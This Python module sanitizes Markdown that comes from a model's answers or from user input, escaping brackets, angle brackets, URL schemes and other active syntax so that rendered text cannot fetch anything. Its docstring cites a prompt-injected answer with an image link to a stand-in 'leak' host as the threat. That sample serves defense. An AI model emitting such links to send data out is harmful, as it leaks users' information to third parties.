"""Markdown from a model or a person, shown with its formatting but unable to fetch anything.

A model's answer is shown as Markdown (lists, bold, tables and code read better that way), and so
are names, descriptions and comments people type. But ``![x](http://host/leak?data)`` in a
prompt-injected answer would make every reader's browser fetch that address, carrying whatever
the answer put in it. ``safe_markdown`` keeps the formatting and takes the reach away:

- ``[`` and ``]`` are escaped, so no image, link or link reference can form (inline, reference
  or collapsed style alike); ``<`` too, so no HTML tag and no ``<http://...>`` autolink;
- ``://`` and ``www.`` lose their link-making power (a bare address stays readable text);
- ``$`` is escaped (an amount of money, not a formula) and so is ``\\``, so no backslash in the
  text can undo the escapes above;
- code spans and fenced code blocks are left as they are: Markdown shows them literally anyway.

Every page that renders such text as Markdown (``st.markdown``, ``st.caption``, a label, an
expander title...) passes it through here first.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.S)
_ACTIVE = re.compile(r"[\\\[\]<$]|:(?=//)|(?<=\bwww)\.", re.I)


def _escape(text: str) -> str:
    return _ACTIVE.sub(lambda m: "\\" + m.group(0), text)


def _inline(text: str) -> str:
    """Escape a run of ordinary lines, leaving code spans as they are."""
    out, last = [], 0
    for span in _CODE_SPAN.finditer(text):
        out.append(_escape(text[last : span.start()]))
        out.append(span.group(0))
        last = span.end()
    out.append(_escape(text[last:]))
    return "".join(out)


def safe_markdown(text: object) -> str:
    """``text`` as Markdown that renders its formatting and fetches nothing."""
    lines = str(text).split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in lines:
        opened = _FENCE.match(line)
        if fence is None and opened:
            if prose:
                out.append(_inline("\n".join(prose)))
                prose = []
            fence = opened.group(1)
            out.append(line)
        elif fence is not None:
            out.append(line)
            closing = _FENCE.match(line)
            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence):
                fence = None
        else:
            prose.append(line)
    if prose:
        out.append(_inline("\n".join(prose)))
    return "\n".join(out)


_CELL_ACTIVE = re.compile(r"[\\`*_{}\[\]<>()#+!|~$]|:(?=//)|(?<=\bwww)\.", re.I)


def markdown_cell(value: object, longest: int = 120) -> str:
    """``value`` as literal text in one Markdown table cell: on one line, cut at ``longest``
    characters, and every character that could format, link, fetch or end the cell escaped (a
    cell is inline text, so unlike ``safe_markdown`` no fence or code span is left as it is)."""
    text = " ".join(str(value).split())
    if len(text) > longest:
        text = text[: longest - 1].rstrip() + "…"
    return _CELL_ACTIVE.sub(lambda m: "\\" + m.group(0), text) or " "


def markdown_table(rows: Sequence[Mapping[str, object]], *, longest_cell: int = 120) -> str:
    """``rows`` as a Markdown table of literal cells (``markdown_cell``). Where a short table is
    all a page shows, this draws in the browser at once: ``st.dataframe`` needs pandas and Arrow
    on the server and loads its grid's code in the browser first, which is most of a first
    page's wait."""
    if not rows:
        return ""
    columns = list(rows[0])
    lines = ["| " + " | ".join(markdown_cell(c) for c in columns) + " |", "|" + " --- |" * len(columns)]
    lines += [
        "| " + " | ".join(markdown_cell(row.get(c, ""), longest_cell) for c in columns) + " |" for row in rows
    ]
    return "\n".join(lines)
